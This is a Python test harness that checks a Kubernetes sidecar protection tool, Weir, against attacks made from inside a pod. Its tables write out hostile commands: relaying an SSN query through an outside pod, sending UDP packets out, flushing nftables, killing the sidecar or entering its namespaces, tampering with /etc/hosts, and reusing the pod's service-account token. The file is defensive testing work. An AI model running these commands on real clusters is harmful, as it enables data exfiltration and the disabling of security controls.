"""Attacks from inside of a pod, and by whoever may write pods.

The tables say before the run what each attack is, what it does where nobody protects (which must
happen first, or the attack proves nothing), and what it must do in the enforced namespace `fort`.
Protection is off in `free`, which Weir does not govern, and half off in `loose`, which is injected but
not enforced.
"""

import json
import re
import sys

from lab.report import contains, equal, lacks

import attack_identities
import attack_people
import attack_specs

QUESTION = "select ssn from customers where id = 1"
CLEAR, MASKED = "078-05-1120", r"\*\*\*-\*\*-1120"
PSQL = f"psql -XAtc '{QUESTION}'"
FLUSH = "nft flush ruleset"
UDP = """python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
for _ in range(5):
    s.sendto(b"hello", ("$OUTSIDE", 9999))
    try: print(s.recv(99)); break
    except socket.timeout: pass
else: print("timed out")'"""
PACKET = """python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); print("opened")'"""
RAW = """python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 6); print("opened")'"""
# In a pod of Weir's it takes until names are looked up again. All containers of a pod have one such file.
HOSTS = "echo \"$OUTSIDE aside.example\" >> /etc/hosts && if [ -d /var/run/weir/trust ]; then sleep 40; fi"
CURL = "curl -ksS --max-time 20 -o /dev/null -w '%{http_code}'"
TOKEN = "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)"

# name, command, where it succeeds and what that looks like, what it looks like in `fort`
INSIDE = (
    ("the plain question", PSQL, "free", CLEAR, MASKED),
    ("as the sidecar's user", f"setpriv --reuid=2177 --regid=2177 --clear-groups env HOME=/tmp {PSQL}", "free", CLEAR, MASKED),
    ("as the probe's user", f"setpriv --reuid=2178 --regid=2178 --clear-groups env HOME=/tmp {PSQL}", "free", CLEAR, MASKED),
    ("the database's pod address", f"PGHOST=$DATABASE {PSQL}", "free", CLEAR, MASKED),
    ("a relay on another port", f"PGHOST=$OUTSIDE PGPORT=7777 {PSQL}", "free", CLEAR, "refused|denied|not governed|closed"),
    ("a relay under a name that a lax policy is for", f"{HOSTS} && PGHOST=$OUTSIDE PGPORT=7777 {PSQL}", "free", CLEAR,
     "refused|denied|not governed|closed"),
    ("a Service of the attacker's", f"PGHOST=mine PGPORT=7654 {PSQL}", "free", CLEAR, MASKED),
    ("a Service of the attacker's that leads elsewhere too", f"PGHOST=half PGPORT=7655 {PSQL}", "free", CLEAR, "refused|denied|not governed|closed"),
    ("IPv6", f"PGHOST=$LINK_LOCAL%eth0 {PSQL}", "free", CLEAR, "refused|denied|not governed|closed|unreachable"),
    ("UDP", UDP, "free", "echo hello", "timed out|not permitted|unreachable|refused"),
    ("a packet socket", PACKET, "free", "opened", "not permitted"),
    ("a raw socket", RAW, "free", "opened", "not permitted"),
    ("flushing nftables", f"{FLUSH} && PGSSLROOTCERT=/none {PSQL}", "loose/admin", CLEAR, "not permitted"),
    ("looking into the sidecar", "cat /proc/$(pgrep weir-sidecar || echo none)/cmdline | tr '\\0' ' '", "loose/shared", "weir-sidecar", "No such file"),
    ("entering the sidecar's namespaces", "nsenter -m -t $(pgrep weir-sidecar) true || echo $?", "loose/shared", "^$|ENOENT|failed to execute", "[1-9]"),
    ("killing the sidecar", "kill -9 $(pgrep weir-sidecar) && echo killed", "loose/shared", "killed", "usage|arguments|not found|kill:"),
    ("filling the sidecar's disk", "dd if=/dev/zero of=/var/lib/weir/fill bs=1M count=1 2>&1", "free/mounts", "1\\+0 records out", "No such file"),
    ("filling the trust volume", "dd if=/dev/zero of=/var/run/weir/trust/fill bs=1M count=1 2>&1", "free/trust", "1\\+0 records out", "Read-only"),
    ("changing Weir through its admin port", f"{CURL} -X POST http://$POD_IP:15090/ ; {CURL} http://$POD_IP:15090/metrics", "loose", "200", "40[45]200"),
    ("enrolling with the pod's own token", f"{CURL} -X POST -H \"Authorization: Bearer {TOKEN}\" -H 'Content-Type: application/json' "
     "-d '{\"csr\":\"\"}' https://weir-controller.weir-system.svc/v1/enrol", "free", "401|403|400", "401|403"),
    ("another pod's policies, without a certificate", f"{CURL} https://weir-controller.weir-system.svc:8444/v1/watch", "free", "000", "000"),
    ("forged evidence, without a certificate", f"{CURL} -X POST -d x https://weir-collector.weir-system.svc:8445/v1/ingest", "free", "000", "000"),
)

POD = {
    "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "attacker", "labels": {"app": "attacker"}},
    "spec": {"terminationGracePeriodSeconds": 0, "containers": [{
        "name": "app", "image": "weir.test/client:1", "command": ["sleep", "infinity"],
        "env": [{"name": "PGHOST", "value": "db.data.svc"}, {"name": "PGDATABASE", "value": "shop"},
                {"name": "PGUSER", "value": "app"}, {"name": "PGPASSWORD", "value": "app-secret"},
                {"name": "PGSSLMODE", "value": "require"}, {"name": "PGCONNECT_TIMEOUT", "value": "10"},
                {"name": "POD_IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}}]}]}}
# More pods in which an attack succeeds: by name, what differs.
VARIANTS = {
    "loose/attacker": {},
    "free/attacker": {},
    "fort/attacker": {},
    "fort/brief": {},
    "free/lone": {"metadata.annotations": {"weir.dev/inject": "enabled"}},
    "loose/admin": {"containers.0.securityContext": {"capabilities": {"add": ["NET_ADMIN"]}}},
    "loose/shared": {"shareProcessNamespace": True,
                     "containers.0.securityContext": {"capabilities": {"add": ["SYS_PTRACE", "SYS_ADMIN"]}}},
    "free/mounts": {"containers.0.volumeMounts": [{"name": "weir-state", "mountPath": "/var/lib/weir"}],
                    "volumes": [{"name": "weir-state", "emptyDir": {"medium": "Memory"}}]},
    "free/token": {"containers.0.volumeMounts": [{"name": "t", "mountPath": "/t"}], "volumes": [attack_specs.TOKEN]},
    "free/posed": {"initContainers": [{"name": "weir-sidecar", "image": "weir.test/client:1", "restartPolicy": "Always",
                                       "command": ["sleep", "infinity"]}],
                   "containers.0.volumeMounts": [{"name": "t", "mountPath": "/t"}], "volumes": [attack_specs.TOKEN]},
    "free/trust": {"containers.0.volumeMounts": [{"name": "t", "mountPath": "/var/run/weir/trust"}],
                   "volumes": [{"name": "t", "emptyDir": {"medium": "Memory"}}]},
}


def variant(name, changes):
    """A pod that differs from the attacker's."""
    pod = json.loads(json.dumps(POD))
    pod["metadata"]["name"] = name
    for path, value in changes.items():
        *way, last = path.split(".")
        place = pod if way[:1] == ["metadata"] else pod["spec"]
        for step in way:
            place = place[int(step)] if step.isdigit() else place[step]
        place[last] = value
    return pod


class Inside:
    """The scene, and the attacks that are commands."""

    def __init__(self, weir):
        self.weir, self.cluster = weir, weir.cluster
        self.outcomes = []

    def prepare(self):
        """Three namespaces, their pods, and what the attacker has elsewhere."""
        for namespace, label in (("free", ""), ("loose", "weir.dev/inject=enabled"), ("fort", "weir.dev/enforce=true")):
            self.weir.shell(f"kubectl create namespace {namespace}" + (f" && kubectl label namespace {namespace} {label}" if label else ""))
            self.cluster.kubectl("-n", namespace, "wait", "--for=create", "serviceaccount/default", "--timeout=60s")
        self.cluster.kubectl("patch", "clusterguardpolicy", "shop", "--type=json", "-p", json.dumps(
            [{"op": "add", "path": "/spec/subjects/-", "value": {"namespaces": ["fort", "loose"]}}]))
        self.cluster.kubectl("apply", "-f", f"{attack_specs.FIXTURES}/outside.yaml")
        self.cluster.wait_pod("outside", namespace="data")
        database = self.cluster.get("pod", "db", namespace="data")["status"]["podIP"]
        addresses = self.cluster.exec("db", "cat", "/proc/net/if_inet6", namespace="data").stdout
        local = re.search(r"^(fe80\w+) .* eth0$", addresses, re.M)
        self.variables = {
            "DATABASE": database,
            "OUTSIDE": self.cluster.get("pod", "outside", namespace="data")["status"]["podIP"],
            "LINK_LOCAL": ":".join(re.findall("....", local.group(1))) if local else "",
        }
        for namespace in ("free", "fort"):
            self.cluster.apply(attack_specs.foreign_services(database, self.variables["OUTSIDE"]), namespace=namespace)
        for name, changes in VARIANTS.items():
            namespace, pod = name.split("/")
            self.cluster.apply(json.dumps(variant(pod, changes)), namespace=namespace)
        for name in VARIANTS:
            namespace, pod = name.split("/")
            self.cluster.wait_pod(pod, namespace=namespace, timeout=90)

    def clean(self):
        """Nothing of it stays."""
        self.weir.shell("kubectl delete namespace free loose fort --wait=false; kubectl -n data delete pod outside --wait=false; "
                        "kubectl delete clusterguardpolicy/aside target/aside")
        self.weir.policies()

    def command(self, where, command):
        """What it prints there."""
        namespace, _, pod = where.partition("/")
        for name, value in self.variables.items():
            command = command.replace(f"${name}", value)
        done = self.cluster.exec(pod or "attacker", "sh", "-c", command, namespace=namespace, container="app", check=False)
        return (done.stdout + done.stderr).strip()

    def attack(self, name, command, where, succeeded, expected):
        """Without protection it does what it should; in `fort` it does what the table says."""
        free = self.command(where, command)
        assert re.search(succeeded, free), f"without protection, in {where}: {free!r} is not /{succeeded}/"
        held = self.command("fort", command)
        self.outcomes.append((name, where, short(free), short(held)))
        lacks(held, CLEAR)
        assert re.search(expected, held), f"{held!r} is not /{expected}/"

    def evidence(self):
        """The relay on another port is a finding, and so is the Service that leads elsewhere too."""
        text = self.weir.evidence("query --kind refusals,findings -n fort -o json")
        contains(text, "7777")
        contains(text, "7655")
        equal(CLEAR in text, False, "clear text in evidence")


def short(text):
    """One line of an outcome."""
    return (text.splitlines() or [""])[-1][:90]


def run(weir, report):
    """The tables, the claims, and the outcomes."""
    inside = Inside(weir)
    people = attack_people.People(weir, inside)
    identities = attack_identities.Identities(weir)
    specs = attack_specs.Specs(weir, POD)
    names = [f"attacks: {row[0]}" for row in (*INSIDE, *attack_specs.ADMISSION)]
    extra = [(f"attacks: {claim.__name__}", claim) for claim in (*specs.claims(), *people.claims(), *identities.claims())]
    if not any(map(report.wanted, [*names, *(name for name, _ in extra)])):
        return
    inside.prepare()
    try:
        for name, row in zip(names, (*INSIDE, *attack_specs.ADMISSION)):
            report.check(name, *((inside.attack, *row) if row in INSIDE else (specs.refused, *row)))
        for name, claim in extra:
            report.check(name, claim)
        report.check("attacks: findings", inside.evidence)
    finally:
        for row in (*inside.outcomes, *specs.outcomes):
            print("      {:<45} {:<13} {} -> {}".format(*row), file=sys.stderr)
        inside.clean()
